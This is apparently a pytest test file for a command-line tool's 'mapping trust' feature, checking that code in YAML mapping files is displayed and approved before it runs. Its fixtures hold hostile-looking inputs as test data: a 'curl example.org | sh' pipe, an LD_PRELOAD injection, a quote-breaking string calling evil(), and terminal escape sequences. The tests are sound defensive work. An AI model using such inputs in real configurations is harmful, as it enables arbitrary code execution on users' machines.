"""`rowtui mapping trust`: nothing runs unseen, and what runs is exactly what was seen."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from tests.cli.conftest import Shell
from tests.cli.in_process import Here, prepared
from tests.cli.terminal import on_a_terminal
from tests.core.mapping.https_server import Authority, Server

WORKFLOW = """\
[[action]]
name = "sample"
command = "touch workspace/{directory}/x"
products = ["x"]
"""
MAPPING = """\
tools:
  sample:
    cores: 1 + 1
    mem: 4
    env: {WHO: "{user.name}"}
    rules:
      - id: late
        if: attempt > 1
        execute: |
          x = 1
          entity.cores = x
destinations:
  only: {runner: none}
"""


@pytest.fixture
def here(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Here:
    """A project whose mapping file nobody trusts yet."""
    here = prepared(tmp_path, monkeypatch, capsys, WORKFLOW)
    here.mapping(MAPPING, trusted=False)
    return here


@pytest.fixture
def shell(empty_folder: Shell) -> Shell:
    """The same, for terminals."""
    (empty_folder.folder / "workspace" / "a").mkdir(parents=True)
    (empty_folder.folder / "workflow.toml").write_text(WORKFLOW)
    (empty_folder.folder / "mapping.yml").write_text(MAPPING)
    return empty_folder


def trusted(here: Here) -> list[str]:
    listing = here.json("mapping", "trust", "--list")["trusted"]
    return [Path(each["name"]).name for each in listing]


def test_all_code_is_shown_with_its_line_before_anybody_agrees(here: Here) -> None:
    done = here("mapping", "trust", "mapping.yml")
    assert done.code == 1
    assert "add --yes" in done.err
    assert trusted(here) == []
    assert done.out.splitlines()[1:] == [
        "  4 pieces of code would run as you:",
        "  line 3, cores of tool sample",
        "      | 1 + 1",
        "  line 5, env.WHO of tool sample",
        "      | {user.name}",
        "  line 8, if of rule late of tool sample",
        "      | attempt > 1",
        "  line 10, execute of rule late of tool sample",
        "      | x = 1",
        "      | entity.cores = x",
        "",
    ]
    assert trusted(here) == []


def test_code_of_either_dialect_is_shown_whichever_the_file_says(here: Here) -> None:
    # Another file may say `dialect: tpv3`, where three quotes end the text.
    text = "a''' + str(evil()) + '''b"
    here.mapping(f'tools:\n  sample:\n    params: {{x: "{text}"}}\n', trusted=False)
    done = here("mapping", "trust", "mapping.yml")
    assert "  1 piece of code would run as you:\n" in done.out
    assert f"      | {text}\n" in done.out


SETTINGS = """\
tools:
  sample:
    rules:
      - if: True
        env: {LD_PRELOAD: /tmp/x.so}
    env:
      - execute: curl example.org | sh
      - file: /tmp/y
destinations:
  d: {runner: none, params: {nativeSpecification: --qos=best}}
"""


def test_what_reaches_the_job_s_shell_is_shown_as_well(here: Here) -> None:
    here.mapping(SETTINGS, trusted=False)
    done = here("mapping", "trust", "mapping.yml")
    assert done.out.splitlines()[1:-1] == [
        "  has no code: nothing of it would run here",
        "  4 settings would reach your jobs as written:",
        "  line 5, env.LD_PRELOAD of rule #1 of tool sample",
        "      | /tmp/x.so",
        "  line 7, env of tool sample",
        "      | {'execute': 'curl example.org | sh'}",
        "  line 8, env of tool sample",
        "      | {'file': '/tmp/y'}",
        "  line 10, params.nativeSpecification of destination d",
        "      | --qos=best",
    ]


def test_what_was_trusted_runs_and_a_change_asks_again_with_the_difference(here: Here) -> None:
    assert here("explain", "sample").code == 1
    done = here("mapping", "trust", "mapping.yml", "--yes")
    assert done.code == 0
    assert done.out.endswith("Trusted mapping.yml as it is now.\n")
    assert here("explain", "sample").code == 0
    done = here("mapping", "trust", "mapping.yml")
    assert (done.code, done.err) == (0, "")
    assert "mapping.yml may run already: you trusted this content on" in done.out

    here.mapping(MAPPING.replace("1 + 1", "1 + 2"), trusted=False)
    assert here("explain", "sample").code == 1
    done = here("mapping", "trust", "mapping.yml")
    assert done.code == 1
    assert "  -    cores: 1 + 1\n  +    cores: 1 + 2\n" in done.out
    assert "entity.cores = x" not in done.out
    assert trusted(here) == ["mapping.yml"]


def test_the_end_of_a_line_that_is_too_long_for_a_difference_is_still_shown(here: Here) -> None:
    here("mapping", "trust", "mapping.yml", "--yes")
    here.mapping(MAPPING.replace("1 + 1", f"1 + {'1 + ' * 400} hidden()"), trusted=False)
    done = here("mapping", "trust", "mapping.yml")
    assert "more characters" in done.out
    assert "hidden()" in done.out


def test_what_a_file_includes_is_shown_and_trusted_with_it(here: Here) -> None:
    (here.folder / "site.yml").write_text("tools:\n  other: {cores: 2 * 3}\n")
    here.mapping("global: {include: [site.yml]}\n" + MAPPING, trusted=False)
    done = here("mapping", "trust", "mapping.yml", "--yes")
    assert done.code == 0
    assert done.out.index("      | 2 * 3\n") < done.out.index("      | 1 + 1\n")
    assert sorted(trusted(here)) == ["mapping.yml", "site.yml"]


def test_what_a_url_gives_is_shown_and_trusted_by_its_content(
    here: Here, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in list(os.environ):
        if name.lower().endswith("_proxy"):
            monkeypatch.delenv(name)
    authority = Authority(here.home, "known")
    monkeypatch.setenv("SSL_CERT_FILE", str(authority.file))
    server = Server(authority.certificate("localhost"))
    try:
        url = server.serve("/tools.yml", b"tools:\n  other: {cores: 2 * 3}\n")
        here.mapping(f"global: {{include: ['{url}']}}\n" + MAPPING, trusted=False)
        # Opening the project asks nobody.
        here("explain", "sample")
        assert server.asked == []
        done = here("mapping", "trust", "mapping.yml", "--yes")
        assert done.code == 0
        assert "      | 2 * 3\n" in done.out
        assert [path for path, _ in server.asked] == ["/tools.yml"]
        data = here.json("mapping", "trust", "--list")["trusted"]
        assert {each["name"]: each["now"] for each in data} == {
            url: "?",
            str(here.folder / "mapping.yml"): "same",
        }
        assert here("mapping", "trust", "--revoke", url).code == 0
        assert trusted(here) == ["mapping.yml"]
    finally:
        server.end()


def test_code_that_steers_terminals_is_shown_as_it_is(here: Here) -> None:
    here.mapping(
        'tools:\n  "a\\e[2J":\n    cores: "attempt # \\e[1A\\e[2K\\u202e"\n', trusted=False
    )
    done = here("mapping", "trust", "mapping.yml")  # ESC in what is printed is an error here
    assert "      | attempt # \\x1b[1A\\x1b[2K\\u202e" in done.out
    assert "tool a\\x1b[2J" in done.out


def test_reviewing_runs_nothing(here: Here) -> None:
    proof = here.folder / "ran"
    code = f"__import__('pathlib').Path('{proof}').touch()"
    here.mapping(
        f'tools:\n  sample:\n    cores: "{code}"\n    env: {{A: "{{{code}}}"}}\n', trusted=False
    )
    assert here("mapping", "trust", "mapping.yml").code == 1
    assert here("mapping", "trust", "mapping.yml", "--yes").code == 0
    assert not proof.exists()
    here("explain", "sample")
    assert proof.exists()


def test_a_file_without_code_is_said_to_have_none(here: Here) -> None:
    here.mapping("tools:\n  sample: {cores: 4}\n", trusted=False)
    done = here("mapping", "trust", "mapping.yml", "--yes")
    assert "has no code: nothing of it would run here" in done.out


def test_what_is_trusted_is_listed_with_what_became_of_it(here: Here) -> None:
    assert "You have trusted no mapping file." in here("mapping", "trust", "--list").out
    here("mapping", "trust", "mapping.yml", "--yes")

    def now() -> list[str]:
        return [each["now"] for each in here.json("mapping", "trust", "--list")["trusted"]]

    assert now() == ["same"]
    here.mapping(MAPPING + "# more\n", trusted=False)
    assert now() == ["changed"]
    (here.folder / "mapping.yml").unlink()
    assert now() == ["gone"]
    row = here("mapping", "trust", "--list").out.splitlines()[1].split()
    assert row[2:] == ["gone", str(here.folder / "mapping.yml")]


@pytest.mark.parametrize("by", ["name", "path", "digest"])
def test_trust_is_taken_back_by_file_or_by_digest(here: Here, by: str) -> None:
    here("mapping", "trust", "mapping.yml", "--yes")
    (record,) = here.json("mapping", "trust", "--list")["trusted"]
    words = {
        "name": "mapping.yml",
        "path": str(here.folder / "mapping.yml"),
        "digest": record["sha256"][:12],
    }
    done = here("mapping", "trust", "--revoke", words[by])
    assert (done.code, done.err) == (0, "")
    assert trusted(here) == []
    assert here("explain", "sample").code == 1
    done = here("mapping", "trust", "--revoke", words[by])
    assert done.code == 1
    assert "is neither a trusted file nor a digest" in done.err


def test_a_file_that_is_not_there_is_said(here: Here) -> None:
    done = here("mapping", "trust", "nix.yml", "--yes")
    assert done.code == 1
    assert "nix.yml: cannot be read: No such file or directory" in done.err


def test_a_store_that_others_can_write_trusts_nothing(here: Here) -> None:
    here("mapping", "trust", "mapping.yml", "--yes")
    (store,) = here.home.glob(".local/share/rowtui/trust")
    store.chmod(0o777)
    done = here("mapping", "trust", "--list")
    assert done.code == 1
    assert "can be written by" in done.err
    assert here("explain", "sample").code == 1
    assert here("mapping", "trust", "mapping.yml", "--yes").code == 1


def test_json_shows_what_was_trusted(here: Here) -> None:
    done = here("mapping", "trust", "mapping.yml", "--json")
    assert done.code == 1
    assert trusted(here) == []
    data = here.json("mapping", "trust", "mapping.yml", "--yes")
    (entry,) = data["trusted"]
    assert (entry["name"], entry["new"], len(entry["sha256"])) == ("mapping.yml", True, 64)


def test_one_thing_at_a_time(here: Here) -> None:
    assert here("mapping", "trust").code == 2
    assert here("mapping", "trust", "--list", "mapping.yml").code == 2


@pytest.mark.parametrize(
    ("typed", "agreed"), [(b"y\n", True), (b"\n", False), (b"n\n", False), (b"what\n", False)]
)
def test_on_a_terminal_no_is_the_default(shell: Shell, typed: bytes, agreed: bool) -> None:
    code, seen = on_a_terminal(shell, "mapping", "trust", "mapping.yml", typed=typed)
    assert code == (0 if agreed else 1)
    assert b"| entity.cores = x" in seen
    assert b"Let the code of this content of mapping.yml run as you? [y/N]: " in seen
    assert (b"Trusted mapping.yml" in seen) is agreed
    explained = shell("explain", "sample")
    assert explained.returncode == (0 if agreed else 1)


def test_a_long_review_goes_through_the_pager(shell: Shell) -> None:
    with open(shell.folder / "mapping.yml", "a") as file:
        file.write("users:\n" + "".join(f"  u{n}: {{cores: 1 + {n}}}\n" for n in range(40)))
    pager = "sed s/^/PAGED:/"
    code, seen = on_a_terminal(shell, "mapping", "trust", "mapping.yml", typed=b"y\n", PAGER=pager)
    assert code == 0
    assert b"PAGED:      | 1 + 39" in seen
    done = shell("mapping", "trust", "mapping.yml", PAGER=pager)
    assert "PAGED" not in done.stdout
